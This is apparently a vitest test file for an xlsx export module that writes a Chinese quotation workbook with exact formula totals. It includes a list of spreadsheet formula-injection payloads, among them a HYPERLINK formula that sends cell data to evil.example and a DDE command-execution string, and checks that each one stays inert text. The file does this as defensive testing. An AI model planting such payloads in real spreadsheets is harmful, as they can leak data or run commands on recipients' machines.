import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import {
  add,
  checkFormulaResults,
  constant,
  displayWidth,
  fitColumnWidths,
  fn,
  formula,
  formulaText,
  mul,
  num,
  range,
  ref,
  roundFen,
  safeSheetName,
  text,
  type Cell,
  type WorkbookModel,
} from '../../src/core/export/sheet-model.ts';
import { money, roundToFen, sumMoney } from '../../src/core/money.ts';
import { writeWorkbook, WorkbookModelError } from '../../src/export/xlsx/workbook-writer.ts';
import { haveSoffice, xlsxToCsv } from './helpers/libreoffice.ts';
import { writeArtifact } from './helpers/poppler.ts';
import { zipEntry } from './helpers/zip.ts';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
  '=1+1',
  '+86 10 1234 5678',
  '-2+3',
  '@SUM(1,1)',
  '\t=cmd|\' /C calc\'!A0',
  '\r=1+2',
  '＝SUM(A1)',
  '  =1+1',
];

/** Lines with awkward prices: products needing rounding, so totals exercise ROUND and SUM. */
const LINES = [
  { name: '高频开关充电模块 ZHR22010', qty: '4', price: '3456.78' },
  { name: '阀控式密封铅酸蓄电池 2V 300Ah', qty: '104', price: '612.35' },
  { name: '直流断路器 GM5B-63/2', qty: '37', price: '88.125' }, // 3 decimals: line total must round
  { name: '微机绝缘监测装置', qty: '1', price: '12999.995' },
  { name: '电缆 ZR-YJV22-0.6/1kV 2×95mm²', qty: '12.5', price: '145.333' },
];
const VAT = '0.13';

function sampleModel(): { model: WorkbookModel; expected: { lineTotals: string[]; subtotal: string; tax: string; total: string } } {
  const sheet = '报价清单';
  const header: Cell[] = ['名称', '数量', '单价', '金额'].map((h) => text(h, { bold: true, border: true, fill: 'header' }));
  const rows: Cell[][] = [[text('测试工程 报价清单', { bold: true, fontSize: 14 })], header];
  const first = rows.length;
  const lineTotals = LINES.map((l) => roundToFen(money(l.qty).times(l.price)));
  LINES.forEach((l, i) => {
    const r = rows.length;
    rows.push([
      text(l.name, { border: true }),
      num(l.qty, { border: true, format: 'decimal' }),
      num(l.price, { border: true, format: 'decimal' }),
      formula(roundFen(mul(ref(r, 1), ref(r, 2))), lineTotals[i] as ReturnType<typeof money>, { border: true, format: 'money' }),
    ]);
  });
  const last = rows.length - 1;
  const subtotal = sumMoney(lineTotals);
  const tax = roundToFen(subtotal.times(VAT));
  const total = subtotal.plus(tax);
  const sRow = rows.length;
  rows.push([text('小计'), empty(), empty(), formula(fn('SUM', range({ row: first, col: 3 }, { row: last, col: 3 })), subtotal, { format: 'money', bold: true })]);
  rows.push([text('税率'), empty(), num(VAT, { format: 'percent' }), formula(roundFen(mul(ref(sRow, 3), ref(sRow + 1, 2))), tax, { format: 'money' })]);
  rows.push([text('合计（含税）'), empty(), empty(), formula(add(ref(sRow, 3), ref(sRow + 1, 3)), total, { format: 'money', bold: true })]);
  rows.push([]);
  HOSTILE.forEach((h) => rows.push([text(h)]));
  const summary: Cell[][] = [
    [text('汇总'), text('')],
    [text('含税合计'), formula(ref(sRow + 2, 3, sheet), total, { format: 'money' })],
  ];
  const model: WorkbookModel = {
    audience: 'customer',
    properties: { title: '测试', creator: 'dcq', created: new Date('2025-01-01T00:00:00Z') },
    sheets: [
      { name: sheet, columns: [{}, {}, {}, {}], rows, frozenRows: 2, printTitleRows: { first: 0, last: 1 } },
      { name: '汇总', columns: [{}, {}], rows: summary },
    ],
  };
  return { model, expected: { lineTotals: lineTotals.map((t) => t.toFixed(2)), subtotal: subtotal.toFixed(2), tax: tax.toFixed(2), total: total.toFixed(2) } };
}

function empty(): Cell {
  return { kind: 'empty' };
}

async function readBack(bytes: Uint8Array): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as unknown as ArrayBuffer);
  return wb;
}

describe('sheet model', () => {
  it('renders formulas only from our tokens, quoting sheet names', () => {
    expect(formulaText(roundFen(mul(ref(2, 1), ref(2, 2))), 'S')).toBe('ROUND((B3*C3),2)');
    expect(formulaText(ref(9, 3, "O'Brien 柜"), 'S')).toBe("'O''Brien 柜'!D10");
    expect(formulaText(mul(ref(0, 0), constant('-0.5')), 'S')).toBe('(A1*(-0.5))');
    expect(() => formulaText({ op: 'const', value: '1);HYPERLINK("x' }, 'S')).toThrow();
    expect(() => formulaText({ op: 'fn', name: 'HYPERLINK' as 'SUM', args: [] }, 'S')).toThrow(/not allowed/);
  });

  it('finds a stated result that disagrees with its formula', () => {
    const { model } = sampleModel();
    expect(checkFormulaResults(model)).toEqual([]);
    const bad = structuredClone(model);
    const cell = bad.sheets[0]?.rows[2]?.[3];
    if (cell?.kind !== 'formula') throw new Error('fixture');
    cell.result = '13827.13';
    // the cell itself, and the subtotal that sums its stated result
    const found = checkFormulaResults(bad);
    expect(found[0]).toEqual({ sheet: '报价清单', cell: 'D3', stated: '13827.13', evaluated: '13827.12' });
    expect(found.map((m) => m.cell)).toEqual(['D3', 'D8']);
  });

  it('measures CJK text double wide for column widths', () => {
    expect(displayWidth('ABC')).toBe(3);
    expect(displayWidth('蓄电池')).toBe(6);
    expect(displayWidth('２×95mm²（）')).toBe(2 + 1 + 4 + 1 + 4);
    const w = fitColumnWidths({ columns: [{}, { width: 30 }], rows: [[text('阀控式密封铅酸蓄电池'), text('x')], [text('short')]] });
    expect(w[0]).toBe(22);
    expect(w[1]).toBe(30);
  });

  it('makes valid unique sheet names from panel names', () => {
    const taken = new Set(['1#馈线屏']);
    expect(safeSheetName('1#馈线屏', taken)).toBe('1#馈线屏 (2)');
    expect(safeSheetName('A/B:[C]?*', new Set())).toBe('A-B-(C)--');
    expect([...safeSheetName('很长的名字'.repeat(10), new Set())].length).toBe(31);
    expect(safeSheetName("'History'", new Set())).toBe('Sheet');
  });
});

describe('xlsx writer', () => {
  it('refuses a wrong cached result, hidden columns in a customer workbook, and inexact numbers', async () => {
    const { model } = sampleModel();
    const wrong = structuredClone(model);
    const c = wrong.sheets[0]?.rows[2]?.[3];
    if (c?.kind !== 'formula') throw new Error('fixture');
    c.result = '1';
    await expect(writeWorkbook(wrong)).rejects.toThrow(WorkbookModelError);
    const hidden = structuredClone(model);
    hidden.sheets[0]?.columns.push({ hidden: true });
    await expect(writeWorkbook(hidden)).rejects.toThrow(/hidden/);
    const hiddenSheet = structuredClone(model);
    if (hiddenSheet.sheets[1]) hiddenSheet.sheets[1].hidden = true;
    await expect(writeWorkbook(hiddenSheet)).rejects.toThrow(/hidden/);
    const big = structuredClone(model);
    big.sheets[1]?.rows.push([num('12345678901234567.89')]);
    await expect(writeWorkbook(big)).rejects.toThrow(/exactly/);
  });

  it('writes formulas with exact cached results, CNY formats, frozen header, A4 landscape fit-to-width, print titles, full calc on load', async () => {
    const { model, expected } = sampleModel();
    const bytes = await writeWorkbook(model);
    const file = writeArtifact('xlsx', 'writer-sample.xlsx', bytes);
    const wb = await readBack(bytes);
    expect(zipEntry(file, 'xl/workbook.xml')).toMatch(/<calcPr[^>]*fullCalcOnLoad="1"/);
    const ws = wb.getWorksheet('报价清单');
    if (!ws) throw new Error('sheet missing');
    expect(ws.getCell('D3').value).toEqual({ formula: 'ROUND((B3*C3),2)', result: Number(expected.lineTotals[0]) });
    expect(ws.getCell('D3').numFmt).toBe('¥#,##0.00;-¥#,##0.00');
    expect(ws.getCell('D8').value).toEqual({ formula: 'SUM(D3:D7)', result: Number(expected.subtotal) });
    expect(ws.getCell('D10').value).toMatchObject({ result: Number(expected.total) });
    expect(ws.getCell('C9').numFmt).toBe('0.00%');
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 2 });
    expect(ws.pageSetup).toMatchObject({ paperSize: 9, orientation: 'landscape', fitToPage: true, fitToWidth: 1, fitToHeight: 0, printTitlesRow: '1:2' });
    expect(ws.getColumn(1).width).toBeGreaterThanOrEqual(displayWidth(LINES[4]?.name ?? '') + 2);
    const summary = wb.getWorksheet('汇总');
    expect(summary?.getCell('B2').value).toEqual({ formula: "'报价清单'!D10", result: Number(expected.total) });
  });

  it('keeps hostile user text a literal string with the Text format (read back with exceljs)', async () => {
    const { model } = sampleModel();
    const wb = await readBack(await writeWorkbook(model));
    const ws = wb.getWorksheet('报价清单');
    if (!ws) throw new Error('sheet missing');
    const start = 12;
    HOSTILE.forEach((h, i) => {
      const cell = ws.getCell(start + i, 1);
      expect(cell.type, h).toBe(ExcelJS.ValueType.String);
      expect(cell.value).toBe(h.replace(/\r/g, '\n'));
      expect(cell.formula).toBeUndefined();
      expect(cell.numFmt).toBe('@');
    });
    expect(ws.getCell('A1').numFmt).toBeUndefined(); // ordinary text keeps the General format
  });

  it.skipIf(!haveSoffice)('LibreOffice shows hostile text literally and, recalculating everything, gets our totals to the fen', async () => {
    const { model, expected } = sampleModel();
    const file = writeArtifact('xlsx', 'writer-lo.xlsx', await writeWorkbook(model));
    // Control: the same sheet written by exceljs directly with a wrong cached total. If LibreOffice
    // really recalculates, the control shows the right figure; otherwise the comparison proves nothing.
    const control = new ExcelJS.Workbook();
    const cs = control.addWorksheet('S');
    cs.getCell('A1').value = 2;
    cs.getCell('A2').value = 3;
    cs.getCell('A3').value = { formula: 'SUM(A1:A2)', result: 999 };
    control.calcProperties = { fullCalcOnLoad: true };
    const controlFile = writeArtifact('xlsx', 'writer-lo-control.xlsx', new Uint8Array((await control.xlsx.writeBuffer()) as ArrayBuffer));

    const recalculated = xlsxToCsv([file, controlFile], { recalc: 'always' });
    expect(recalculated.get(controlFile)?.get('S')?.[2]?.[0]).toBe('5');
    const sheet = recalculated.get(file)?.get('报价清单');
    if (!sheet) throw new Error(`no CSV for 报价清单: ${[...(recalculated.get(file)?.keys() ?? [])].join(',')}`);
    expected.lineTotals.forEach((t, i) => expect(money(sheet[2 + i]?.[3] ?? 'NaN').eq(t), `line ${i}`).toBe(true));
    expect(money(sheet[7]?.[3] ?? 'NaN').toFixed(2)).toBe(expected.subtotal);
    expect(money(sheet[8]?.[3] ?? 'NaN').toFixed(2)).toBe(expected.tax);
    expect(money(sheet[9]?.[3] ?? 'NaN').toFixed(2)).toBe(expected.total);
    expect(money(recalculated.get(file)?.get('汇总')?.[1]?.[1] ?? 'NaN').toFixed(2)).toBe(expected.total);
    HOSTILE.forEach((h, i) => expect(sheet[11 + i]?.[0], JSON.stringify(h)).toBe(h.replace(/\r/g, '\n')));

    // Without forced recalculation LibreOffice keeps cached results (stack-notes): ours are exact, so still right.
    const cached = xlsxToCsv([file, controlFile], { recalc: 'never' });
    expect(cached.get(controlFile)?.get('S')?.[2]?.[0]).toBe('999');
    expect(money(cached.get(file)?.get('报价清单')?.[9]?.[3] ?? 'NaN').toFixed(2)).toBe(expected.total);
  }, 120_000);
});
